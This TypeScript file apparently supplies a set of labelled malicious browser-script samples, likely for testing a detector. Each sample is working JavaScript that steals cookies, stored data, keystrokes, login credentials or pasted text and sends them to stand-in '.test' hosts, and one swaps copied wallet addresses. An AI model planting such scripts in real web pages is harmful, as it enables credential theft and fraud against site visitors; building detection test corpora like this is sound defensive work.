import { base64 } from './hiding.ts';
import type { MaliciousSample } from './malicious-sample.ts';

const thief = (name: string, technique: string, code: string): MaliciousSample => ({
  name,
  technique,
  family: 'malware',
  code,
});

export const thieves: readonly MaliciousSample[] = [
  thief(
    'cookies-to-image',
    'Sends all cookies in the address of an image',
    `var c = document.cookie; if (c.length > 10) { new Image().src = 'https://c.steal.test/?c=' + encodeURIComponent(c) + '&h=' + location.host; }`,
  ),
  thief(
    'storage-dump',
    'Sends everything that the browser has stored',
    `var dump = { l: localStorage, s: sessionStorage, c: document.cookie }; navigator.sendBeacon('https://s.steal.test/d', btoa(JSON.stringify(dump)));`,
  ),
  thief(
    'key-logger',
    'Records all keys',
    `var keys = ''; document.addEventListener('keydown', function (e) { keys += e.key + ','; if (keys.length > 50) { fetch('https://k.steal.test/', { method: 'POST', mode: 'no-cors', body: keys }); keys = ''; } });`,
  ),
  thief(
    'login-copy',
    'Copies user name and password when a login is sent',
    `document.querySelectorAll('form').forEach(function (f) { f.addEventListener('submit', function () { var p = f.querySelector('input[type=password]'); var u = f.querySelector('input[type=email]'); new Image().src = 'https://l.steal.test/?' + btoa(u.value + ':' + p.value); }); });`,
  ),
  thief(
    'clipboard-swap',
    'Replaces wallet addresses that are copied',
    `document.addEventListener('copy', function (e) { var s = window.getSelection().toString(); if (/^(0x[a-fA-F0-9]{40}|bc1[a-z0-9]{30,})$/.test(s.trim())) { e.clipboardData.setData('text/plain', '0x000000000000000000000000000000000000dEaD'); e.preventDefault(); } });`,
  ),
  thief(
    'clipboard-reader',
    'Sends what is pasted',
    `document.addEventListener('paste', function (e) { var t = e.clipboardData.getData('text'); navigator.sendBeacon(atob('${base64('https://p.steal.test/')}'), t); });`,
  ),
];
